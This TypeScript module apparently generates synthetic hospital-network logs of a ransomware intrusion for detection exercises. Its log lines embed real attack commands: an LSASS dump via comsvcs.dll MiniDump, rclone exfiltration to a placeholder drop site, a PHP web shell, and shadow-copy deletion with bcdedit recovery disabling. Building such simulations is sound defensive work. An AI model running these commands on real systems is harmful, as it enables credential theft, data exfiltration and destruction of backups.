/** What the intruder does, each deed as the records it leaves. The story tells when, and which rules should see it. */
import { ADMIN, fqdn, OUTSIDE, PEOPLE, PIVOT, SERVERS, SUPPLIER } from './hospital.ts';
import { auditdLine, combinedLine, dicomAuditLine, fortigateLine, sambaLine, zeekLine } from './lines.ts';
import { MINUTE, type Night } from './night.ts';
import {
  failedLogon,
  fileWritten,
  logon,
  processOpened,
  processStart,
  serviceInstalled,
  shareFileAccess,
} from './windows.ts';

export const SYSTEM32 = 'C:\\Windows\\System32\\';

function vpnLine(night: Night, at: number, what: { user: string; action: string; reason?: string }): void {
  const isUp = what.action === 'tunnel-up';
  const pairs = {
    logid: isUp ? '0101039947' : '0101039426',
    type: 'event',
    subtype: 'vpn',
    level: isUp ? 'information' : 'alert',
    vd: 'root',
    logdesc: isUp ? 'SSL VPN tunnel up' : 'SSL VPN login fail',
    tunneltype: isUp ? 'ssl-tunnel' : 'ssl-web',
    remip: OUTSIDE.attacker,
    ...(isUp ? { tunnelip: SUPPLIER.vpnAddress } : {}),
    ...what,
  };
  night.journal.line('fortigate', at, fortigateLine(at, pairs));
}

export function guessVpn(night: Night, at: number): void {
  const users = [...PEOPLE.slice(0, 38).map((person) => person.account), 'admin', SUPPLIER.account];
  users.forEach((user, index) => {
    vpnLine(night, at + index * 13_000, {
      user,
      action: 'ssl-login-fail',
      reason: 'sslvpn_login_permission_denied',
    });
  });
  vpnLine(night, at + 11 * MINUTE, { user: SUPPLIER.account, action: 'tunnel-up' });
}

export function webShell(night: Night, at: number): void {
  const agent = 'python-requests/2.32';
  const lines: readonly [string, number][] = [
    ['GET /contact HTTP/1.1', 200],
    ['POST /contact/piece-jointe HTTP/1.1', 200],
    ['POST /uploads/2026/facture.php HTTP/1.1', 200],
    ['POST /uploads/2026/facture.php HTTP/1.1', 200],
    ['GET /uploads/2026/facture.php?c=id HTTP/1.1', 200],
  ];
  lines.forEach(([line, status], index) => {
    const moment = at + index * 70_000;
    const request = { address: OUTSIDE.webAttacker, line, status, bytes: 118 + index, agent };
    night.journal.line('portal', moment, combinedLine(moment, request));
  });
  ['whoami', 'id', 'uname'].forEach((program, index) => {
    const moment = at + 3 * MINUTE + index * 30_000;
    const serial = 900_000 + index;
    const who = 'ppid=811 pid=9120 auid=4294967295 uid=33 gid=33 tty=(none) ses=4294967295';
    const call = `arch=c000003e syscall=59 success=yes exit=0 ${who} comm="${program}" exe="/usr/bin/${program}" key="exec"`;
    night.journal.line('auditd', moment, auditdLine(moment, serial, 'SYSCALL', call));
    night.journal.line('auditd', moment, auditdLine(moment, serial, 'EXECVE', `argc=1 a0="${program}"`));
  });
}

export function guessDesktop(night: Night, at: number): void {
  const common = { computer: PIVOT.name, account: SUPPLIER.account, address: SUPPLIER.vpnAddress, type: 10 };
  for (let index = 0; index < 14; index += 1)
    night.journal.windows(failedLogon({ ...common, at: at + index * 20_000 }));
  night.journal.windows(logon({ ...common, at: at + 300_000 }));
}

export function run(
  night: Night,
  at: number,
  what: { computer: string; account: string; image: string; command: string },
): void {
  night.journal.windows(processStart({ ...what, at, parent: `${SYSTEM32}cmd.exe` }));
}

export function exportImages(night: Night, at: number): void {
  for (let index = 0; index < 24; index += 1) {
    const moment = at + index * MINUTE;
    const audit = {
      code: '110106',
      name: 'Export',
      action: 'R',
      user: SUPPLIER.account,
      address: PIVOT.address,
      patient: `IPP${200_100 + index}`,
    };
    night.journal.line('dicom', moment, dicomAuditLine(moment, audit));
  }
}

export function copyOutside(night: Night, at: number): void {
  run(night, at, {
    computer: 'SRV-FIC-02',
    account: ADMIN,
    image: 'C:\\ProgramData\\rclone.exe',
    command: 'rclone.exe copy C:\\ProgramData\\ depot:x --include *.7z.* --transfers 16',
  });
  night.journal.line(
    'dns',
    at + 1000,
    zeekLine('dns', at + 1000, {
      uid: 'DxRc1',
      'id.orig_h': '10.20.1.8',
      'id.orig_p': 51_001,
      'id.resp_h': '10.20.1.5',
      'id.resp_p': 53,
      proto: 'udp',
      query: 'depot.stockage.example',
      qtype_name: 'A',
      rcode_name: 'NOERROR',
      answers: OUTSIDE.dropSite,
    }),
  );
  for (let index = 0; index < 13; index += 1) {
    const moment = at + 4000 + index * 3 * MINUTE;
    const values = {
      uid: `CxRc${index}`,
      'id.orig_h': '10.20.1.8',
      'id.orig_p': 51_100 + index,
      'id.resp_h': OUTSIDE.dropSite,
      'id.resp_p': 443,
      proto: 'tcp',
      service: 'ssl',
      duration: '171.250000',
      orig_bytes: 524_288_000,
      resp_bytes: 1_204_000,
      conn_state: 'SF',
      local_orig: 'T',
      local_resp: 'F',
      missed_bytes: 0,
      history: 'ShADadFf',
      orig_pkts: 371_000,
      orig_ip_bytes: 539_000_000,
      resp_pkts: 22_000,
      resp_ip_bytes: 2_100_000,
    };
    night.journal.line('conn', moment, zeekLine('conn', moment, values));
  }
}

export function encrypt(night: Night, at: number): void {
  const head = [ADMIN, '10.20.1.8', fqdn('SRV-FIC-02'), 'commun'];
  for (let index = 0; index < 900; index += 1) {
    const moment = at + index * 500;
    const name = `radiologie/comptes-rendus/cr-${String(index).padStart(4, '0')}.odt`;
    night.journal.line(
      'samba',
      moment,
      sambaLine(moment, [...head, 'renameat', 'ok', name, `${name}.valombre`]),
    );
  }
  for (const { name } of SERVERS.slice(1, 4)) {
    const file = 'C:\\Users\\Public\\Desktop\\RESTORE_YOUR_FILES.txt';
    const image = 'C:\\ProgramData\\vx.exe';
    night.journal.windows(fileWritten({ at: at + 6 * MINUTE, computer: name, account: ADMIN, image, file }));
  }
}

export function dumpPasswords(night: Night, at: number): void {
  const image = `${SYSTEM32}rundll32.exe`;
  const command = `rundll32.exe ${SYSTEM32}comsvcs.dll, MiniDump 704 C:\\Windows\\Temp\\d.bin full`;
  const who = { computer: PIVOT.name, account: SUPPLIER.account };
  run(night, at, { ...who, image, command });
  const { computer } = who;
  night.journal.windows(processOpened({ at: at + 60, computer, source: image, access: '0x1fffff' }));
  night.journal.windows(fileWritten({ ...who, at: at + 400, image, file: 'C:\\Windows\\Temp\\d.bin' }));
}

export function installServices(night: Night, at: number): void {
  SERVERS.slice(1, 5).forEach(({ name: computer }, index) => {
    const moment = at + index * MINUTE;
    const who = { computer, account: ADMIN, address: PIVOT.address };
    const file = { share: '\\\\*\\ADMIN$', file: 'kqzdhvbw.exe' };
    night.journal.windows(logon({ ...who, at: moment - 900, type: 3 }));
    night.journal.windows(shareFileAccess({ ...who, ...file, at: moment - 400 }));
    night.journal.windows(serviceInstalled(moment, computer, 'kqzd', '%SystemRoot%\\kqzdhvbw.exe'));
  });
}

export function deleteShadows(night: Night, at: number): void {
  ['SRV-SAUV-01', 'SRV-FIC-02', 'SRV-DPI-01'].forEach((computer, index) => {
    const moment = at + index * MINUTE;
    const shadows = { image: `${SYSTEM32}vssadmin.exe`, command: 'vssadmin.exe delete shadows /all /quiet' };
    const repair = { image: `${SYSTEM32}bcdedit.exe`, command: 'bcdedit /set {default} recoveryenabled no' };
    run(night, moment, { ...shadows, computer, account: ADMIN });
    run(night, moment + 7000, { ...repair, computer, account: ADMIN });
  });
}
